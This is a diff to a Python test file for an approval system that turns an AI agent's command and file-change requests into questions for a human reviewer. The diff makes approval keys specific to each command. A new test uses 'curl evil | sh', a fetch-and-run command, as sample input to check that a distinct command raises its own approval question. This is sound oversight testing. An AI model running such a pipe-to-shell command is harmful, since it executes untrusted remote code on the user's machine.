@@ -167,7 +167,7 @@ def test_the_question_about_a_command() -> None:
     assert asked.reason == "need\nNetwork access to example.org"
     several = question_of(line["method"], {**params, "approvalId": "b7"}, ())
     assert several is not None
-    assert several.key.item_id == "call_4_1/b7"
+    assert several.key.item_id.startswith("call_4_1/b7#")
     assert question_of(line["method"], {**params, "kind": "writeStdin"}, ()) is None
 
 
@@ -181,7 +181,7 @@ def test_the_question_about_a_change_takes_its_edits_from_the_item() -> None:
     assert isinstance(item, FileChange)
     question = question_of(line["method"], {**line["params"], "grantRoot": "/var"}, item.edits)
     assert question is not None
-    assert question.key.item_id == item.id
+    assert question.key.item_id.startswith(f"{item.id}#")
     assert question.key.kind is ApprovalKind.FILE_CHANGE
     assert question.edits == item.edits
     assert question.reason == "Asks to write anywhere under /var"
@@ -334,3 +334,14 @@ def test_commits_are_allowed_by_the_git_folder_alone() -> None:
     assert policy["writableRoots"] == ["/home/dev/repo/.git"]
     read_only = replace(REQUEST, sandbox=Sandbox.READ_ONLY, allow_commit=True)
     assert sandbox_policy(read_only, [REQUEST.git_dir]) == {"type": "readOnly", "networkAccess": False}
+
+
+def test_another_command_of_the_same_item_is_another_question() -> None:
+    def asked(command: str) -> Question:
+        params = {"threadId": "t", "turnId": "u", "itemId": "call_1", "command": command, "cwd": "/repo"}
+        question = question_of("item/commandExecution/requestApproval", params, ())
+        assert question is not None
+        return question
+
+    assert asked("ls").key == asked("ls").key
+    assert asked("ls").key != asked("curl evil | sh").key
